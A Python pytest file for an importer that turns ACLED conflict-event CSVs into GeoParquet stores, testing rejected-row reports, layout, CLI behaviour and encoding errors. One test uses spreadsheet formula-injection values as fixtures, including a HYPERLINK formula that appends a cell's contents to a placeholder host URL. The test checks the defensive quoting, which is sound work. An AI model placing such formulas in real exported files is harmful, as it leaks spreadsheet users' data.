"""import-acled into a store: the GeoJSON importer's rules, every refused row reported, counted
and kept in the side file, GeoParquet 1.1 sorted by date window."""

from __future__ import annotations

import csv
import io
import itertools
import json
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import pyarrow.parquet as pq
import pytest

from geo import paths
from geo.acled.reader import read_acled_text
from geo.escape import spreadsheet_cell
from geo.load import incidents_frame
from geo.store.importer import import_acled_store, rejected_path
from tests.store.conftest import acled_csv, acled_rows

NAMES = {"turkey": "Türkiye"}


def bad_rows() -> list[dict[str, str]]:
    rows = acled_rows(40)
    rows[3]["latitude"] = "north"  # not a number
    rows[7]["event_date"] = "2024-02-30"  # no such day
    rows[11]["event_type"] = "Riot"  # not an ACLED event type
    rows[15]["event_id_cnty"] = rows[2]["event_id_cnty"]  # duplicate id
    return rows


def run_import(tmp_path: Path, text: str, workers: int = 1):
    source = tmp_path / "acled.csv"
    source.write_text(text, encoding="utf-8")
    found = []
    report = import_acled_store(
        source,
        tmp_path / "store.parquet",
        source_id="acled",
        country_names=NAMES,
        on_problem=found.append,
        workers=workers,
    )
    return source, report, found


@pytest.mark.parametrize("workers", [1, 2])
def test_refused_rows_are_the_geojson_importers_reported_counted_and_kept(tmp_path, workers):
    text = acled_csv(bad_rows())
    source, report, found = run_import(tmp_path, text, workers)
    document, expected = read_acled_text(text, str(source), country_names=NAMES)

    assert sorted(found, key=lambda p: p.line) == expected  # same rules, same words
    assert (report.stored, report.refused) == (36, 4)
    assert [p.line for p in found] == [5, 9, 13, 17]  # header is line 1: row i is line i + 2
    assert found[0].format().startswith(f"{source}:5:23: error: [acled-evt3] latitude: ")
    with open(rejected_path(tmp_path / "store.parquet"), encoding="utf-8") as handle:
        side = list(csv.DictReader(handle))
    assert [row["line"] for row in side] == ["5", "9", "13", "17"]
    assert side[0]["latitude"] == "north" and "not numbers" in side[0]["problems"]
    assert "duplicate id 'acled-evt2': first on line 4" in side[3]["problems"]

    store = gpd.read_parquet(tmp_path / "store.parquet")
    assert sorted(store["id"]) == sorted(f["id"] for f in document["features"])


def test_the_store_holds_the_same_values_as_the_incident_file(tmp_path):
    text = acled_csv(acled_rows(60, seed=3))
    source, report, found = run_import(tmp_path, text)
    document, _ = read_acled_text(text, str(source), country_names=NAMES)
    curated = incidents_frame(document).set_index("id").sort_index()
    store = gpd.read_parquet(tmp_path / "store.parquet").set_index("id").sort_index()
    assert found == [] and report.rejected_file is None
    assert not rejected_path(tmp_path / "store.parquet").exists()
    for name in ("event_type", "country", "claim_status", "name", "acled_source", "notes"):
        assert store[name].astype(object).where(store[name].notna(), None).tolist() == (
            curated[name].astype(object).where(curated[name].notna(), None).tolist()
        ), name
    assert store["sources"].map(list).tolist() == curated["sources"].tolist()
    assert (store["event_date"].astype("datetime64[us]") == curated["event_date"]).all()
    assert (
        store.geometry.set_crs(curated.crs, allow_override=True).geom_equals(curated.geometry).all()
    )


def test_geoparquet_1_1_with_bbox_covering_and_row_groups_in_date_order(tmp_path, monkeypatch):
    monkeypatch.setattr("geo.store.layout.ROW_GROUP_SIZE", 2048)  # DuckDB's smallest
    run_import(tmp_path, acled_csv(acled_rows(7000, seed=5)))
    parquet = pq.ParquetFile(tmp_path / "store.parquet")
    geo = json.loads(parquet.metadata.metadata[b"geo"])
    assert geo["version"] == "1.1.0" and geo["primary_column"] == "geometry"
    column = geo["columns"]["geometry"]
    assert column["encoding"] == "WKB" and column["geometry_types"] == ["Point"]
    assert column["covering"]["bbox"]["xmin"] == ["bbox", "xmin"]
    groups = parquet.metadata.num_row_groups
    assert groups >= 3
    index = parquet.schema_arrow.get_field_index("window_start")
    stats = [parquet.metadata.row_group(i).column(index).statistics for i in range(groups)]
    assert all(a.max <= b.min for a, b in itertools.pairwise(stats))
    store = gpd.read_parquet(tmp_path / "store.parquet")
    assert store.crs.to_string() == "OGC:CRS84"
    xmin = pq.read_table(tmp_path / "store.parquet")["bbox"].combine_chunks().field("xmin")
    assert xmin.to_pylist() == store.geometry.x.tolist()  # geopandas reads the covering


def test_a_file_that_is_not_acled_writes_nothing(tmp_path):
    _, report, _ = run_import(tmp_path, "name,lat\nx,1\n")
    assert next(p.message for p in report.fatal) == (
        "missing column 'event_date': is this an ACLED export?"
    )
    assert not (tmp_path / "store.parquet").exists()


def test_the_cli_writes_the_store_and_exits_1_naming_the_side_file(tmp_path):
    source = tmp_path / "acled.csv"
    source.write_text(acled_csv(bad_rows()), encoding="utf-8")
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "geo",
            "import-acled",
            str(source),
            "--out",
            str(tmp_path / "s.parquet"),
        ],
        capture_output=True,
        text=True,
        cwd=paths.ROOT,
        check=False,
    )
    assert done.returncode == 1
    assert f"wrote {tmp_path / 's.parquet'} (36 events)" in done.stderr
    assert f"{source}:5:23: error: [acled-evt3] latitude:" in done.stderr
    side = tmp_path / "s.rejected.csv"
    assert f"4 row(s) refused and not stored; they are listed with their problems in {side}" in (
        done.stderr
    )


def test_out_folder_writes_one_geoparquet_file_per_year_that_every_reader_opens(tmp_path):
    from geo.store.query import Store
    from geo.view import View

    text = acled_csv(bad_rows())
    source = tmp_path / "acled.csv"
    source.write_text(text, encoding="utf-8")
    found = []
    for out in (tmp_path / "store.parquet", tmp_path / "store"):
        report = import_acled_store(
            source, out, source_id="acled", country_names=NAMES, on_problem=found.append
        )
        assert (report.stored, report.refused) == (36, 4)
    parts = sorted((tmp_path / "store").rglob("*.parquet"))
    assert all(p.parent.parent == tmp_path / "store" for p in parts)
    assert all(p.name == "part-0.parquet" for p in parts) and len(parts) >= 2
    for part in parts:  # each a GeoParquet 1.1 file of its own year's windows
        table = pq.read_table(part)
        assert json.loads(table.schema.metadata[b"geo"])["version"] == "1.1.0"
        starts = {d.year for d in table["window_start"].to_pylist()}
        assert {f"year={year:04d}" for year in starts} == {part.parent.name}
    one, folder = Store(tmp_path / "store.parquet"), Store(tmp_path / "store")
    assert folder.select(View()).equals(one.select(View()))
    assert rejected_path(tmp_path / "store") == tmp_path / "store.rejected.csv"


def test_out_folder_replaces_a_store_folder_and_refuses_any_other(tmp_path):
    source = tmp_path / "acled.csv"
    source.write_text(acled_csv(acled_rows(30)), encoding="utf-8")
    out = tmp_path / "store"
    for _ in range(2):  # the second import replaces the first whole
        report = import_acled_store(
            source, out, source_id="acled", country_names=NAMES, on_problem=print
        )
        assert report.stored == 30 and not report.fatal
    assert sum(pq.read_table(p).num_rows for p in out.rglob("*.parquet")) == 30
    (tmp_path / "papers").mkdir()
    (tmp_path / "papers" / "notes.txt").write_text("mine", encoding="utf-8")
    report = import_acled_store(
        source, tmp_path / "papers", source_id="acled", country_names=NAMES, on_problem=print
    )
    assert "is not a store folder" in report.fatal[0].message
    assert (tmp_path / "papers" / "notes.txt").read_text(encoding="utf-8") == "mine"


@pytest.mark.slow  # measured: among the slowest of the quick run (docs/performance.md)
def test_the_cli_writes_a_folder_store_to_a_new_name_without_suffix(tmp_path):
    source = tmp_path / "acled.csv"
    source.write_text(acled_csv(acled_rows(20)), encoding="utf-8")
    for _ in range(2):  # a new name, then the store folder it made, replaced
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "geo",
                "import-acled",
                str(source),
                "--out",
                str(tmp_path / "s"),
            ],
            capture_output=True,
            text=True,
            cwd=paths.ROOT,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        assert f"wrote {tmp_path / 's'} (20 events)" in done.stderr
    assert sorted(p.parent.name for p in (tmp_path / "s").rglob("*.parquet"))[0].startswith("year=")


@pytest.mark.parametrize(
    ("encode", "words", "where"),
    [
        (lambda text: text.encode("cp1252"), "not UTF-8 text: byte 0xe9", ":3:"),
        (lambda text: text.encode("utf-16"), "UTF-16 text, not UTF-8", ":1:1:"),
        (lambda text: b"PK\x03\x04" + text.encode(), "ZIP archive", ":1:1:"),
    ],
)
def test_a_file_that_is_not_utf8_text_is_named_as_the_geojson_import_names_it(
    tmp_path, capsys, encode, words, where
):
    """The store's import streams the file, yet says what the one reader (geo.files) says of
    any other: where the first byte that is not UTF-8 is, exit 2, nothing written."""
    from geo.cli import main

    rows = acled_rows(3)
    rows[1]["notes"] = "Caf\u00e9 owner injured"  # an é, Windows-1252's 0xe9, on line 3
    source = tmp_path / "acled.csv"
    source.write_bytes(encode(acled_csv(rows)))
    assert main(["import-acled", str(source), "--out", str(tmp_path / "s.parquet")]) == 2
    err = capsys.readouterr().err
    assert f"{source}{where}" in err and words in err, err
    assert not (tmp_path / "s.parquet").exists()


@pytest.mark.parametrize("blocks", [True, False])
def test_the_exporters_formula_guard_is_taken_off_as_the_geojson_importer_does(tmp_path, blocks):
    """A CSV written for people has a `'` before each cell a spreadsheet would run (geo.escape
    .spreadsheet_cell, header too); the store's importer takes exactly that off, whether the
    file is read in blocks by pyarrow or row by row (a cell with a line break): the values are
    the original ones, and a negative number, written as it is, stays a number. A refused
    row goes to the side file guarded again, once."""
    rows = acled_rows(30, seed=5)
    if not blocks:
        rows[4]["notes"] = "two\nlines"
    rows[0].update(notes='=HYPERLINK("http://host/?"&A1)', actor1="@actor")
    rows[1].update(location="+Somewhere", notes="'=already quoted", actor1="-x")
    rows[2].update(source="=APA", notes="-12.5")
    rows.append(dict(rows[0], latitude="north", event_id_cnty="EVT30"))  # refused
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([spreadsheet_cell(name) for name in rows[0]])
    writer.writerows([spreadsheet_cell(cell) for cell in row.values()] for row in rows)
    source, report, found = run_import(tmp_path, buffer.getvalue())
    assert [p.feature_id for p in found] == ["acled-evt30"]
    assert (report.stored, report.refused) == (30, 1)
    with open(rejected_path(tmp_path / "store.parquet"), encoding="utf-8", newline="") as handle:
        side = list(csv.DictReader(handle))
    assert side[0]["notes"] == "'" + rows[0]["notes"] and side[0]["actor1"] == "'@actor"

    store = gpd.read_parquet(tmp_path / "store.parquet").set_index("id")
    assert store.loc["acled-evt0", "notes"] == '=HYPERLINK("http://host/?"&A1)'
    assert store.loc["acled-evt0", "actor1"] == "@actor"
    assert store.loc["acled-evt1", "location"] == "+Somewhere"
    assert store.loc["acled-evt1", "notes"] == "'=already quoted"
    assert store.loc["acled-evt1", "actor1"] == "-x"
    assert store.loc["acled-evt2", "acled_source"] == "=APA"
    assert store.loc["acled-evt2", "notes"] == "-12.5"
    document, _ = read_acled_text(buffer.getvalue(), str(source), country_names=NAMES)
    expected = incidents_frame(document).set_index("id").loc[store.index]
    for name in ("notes", "actor1", "location", "acled_source", "fatalities"):
        assert store[name].astype(object).where(store[name].notna(), None).tolist() == (
            expected[name].astype(object).where(expected[name].notna(), None).tolist()
        ), name
    assert (
        store.geometry.set_crs(expected.crs, allow_override=True)
        .geom_equals(expected.geometry)
        .all()
    )
